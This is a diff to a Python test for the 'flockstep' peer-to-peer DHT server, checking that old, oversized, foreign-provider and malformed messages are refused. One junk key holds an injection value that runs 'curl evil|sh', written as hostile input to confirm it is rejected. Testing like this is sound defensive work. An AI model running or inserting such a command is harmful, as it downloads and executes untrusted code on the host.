@@ -22,7 +22,6 @@ from flockstep.peer.identity import Identity
 from flockstep.peer.quota.limits import BootstrapLimits
 from flockstep.peer.quota.origins import Origins
 from flockstep.peer.telemetry import Event, Telemetry
-from libp2p.peer.id import ID
 from multiaddr import Multiaddr
 
 LOOPBACK = PeerConfig(host="127.0.0.1", port=0)
@@ -239,11 +238,11 @@ def test_an_older_or_oversized_value_and_a_foreign_provider_are_refused_and_coun
             other_key.record.key, other_key.record.value = b"/flockstep/other", value(3)
             await refused(other_key)
             foreign = Message(type=Message.ADD_PROVIDER, key=KEY.encode())
-            add_peer_to(foreign.providerPeers, ID.from_base58(net.server.peer_id), host.addresses())
+            add_peer_to(foreign.providerPeers, net.server.peer_id, host.addresses())
             await refused(foreign)
             for junk in (b"/flockstep/\xff", b"/flockstep/x'; curl evil|sh; '", b"/flockstep/"):
                 no_run = Message(type=Message.ADD_PROVIDER, key=junk)
-                add_peer_to(no_run.providerPeers, ID.from_base58(host.peer_id), host.addresses())
+                add_peer_to(no_run.providerPeers, host.peer_id, host.addresses())
                 await refused(no_run)
             await refused(Message(type=Message.GET_VALUE, key=bytes(200)))
             assert net.server.bootstrap_server is not None
